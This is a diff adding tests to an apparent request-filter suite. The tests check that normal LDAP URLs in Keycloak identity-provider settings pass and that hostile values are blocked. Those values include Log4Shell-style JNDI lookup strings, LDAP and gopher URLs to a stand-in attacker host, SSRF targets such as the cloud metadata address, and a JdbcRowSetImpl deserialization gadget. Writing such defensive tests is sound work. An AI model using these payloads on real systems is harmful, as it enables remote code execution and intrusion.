@@ -240,3 +240,33 @@ describe("spreadsheet formulas", () => {
     expect(verdict(req).blocked).toBe(true);
   });
 });
+
+// An identity provider's LDAP settings (Keycloak components): a directory server's address, nothing to look up.
+const idp = (config: object): Req => ({ method: "POST", path: "/admin/realms/corp/components", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ name: "corp-ldap", providerId: "ldap", providerType: "org.keycloak.storage.UserStorageProvider", config }) });
+describe("LDAP connection URLs in identity-provider settings", () => {
+  it.each([
+    ["ldaps://ldap.corp.example:636"],
+    ["ldap://ldap.corp.example"],
+    ["ldap://ldap1.corp.example:389 ldap://ldap2.corp.example:389"],
+  ])("passes: %s", (url) => {
+    const v = verdict(idp({ connectionUrl: [url], usersDn: ["ou=People,dc=corp,dc=example"], bindDn: ["cn=svc-keycloak,ou=Services,dc=corp,dc=example"] }));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    "ldap://attacker.example:1389/Exploit",
+    "ldap://attacker.example:1389/",
+    "ldap://attacker.example:1389?cn",
+    "${jndi:ldap://attacker.example:1389}",
+    "${jndi:ldaps://attacker.example}",
+    "ldap://127.0.0.1:389",
+    "ldap://169.254.169.254:389",
+    "see ldap://attacker.example:1389/o=x",
+    "gopher://attacker.example:70",
+  ])("blocks: %s", (url) => {
+    expect(verdict(idp({ connectionUrl: [url] })).blocked).toBe(true);
+    expect(verdict(search(url)).blocked).toBe(true);
+  });
+  it("blocks a gadget naming a bare directory address", () => {
+    expect(verdict(kube({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://attacker.example:1389", autoCommit: true })).blocked).toBe(true);
+  });
+});
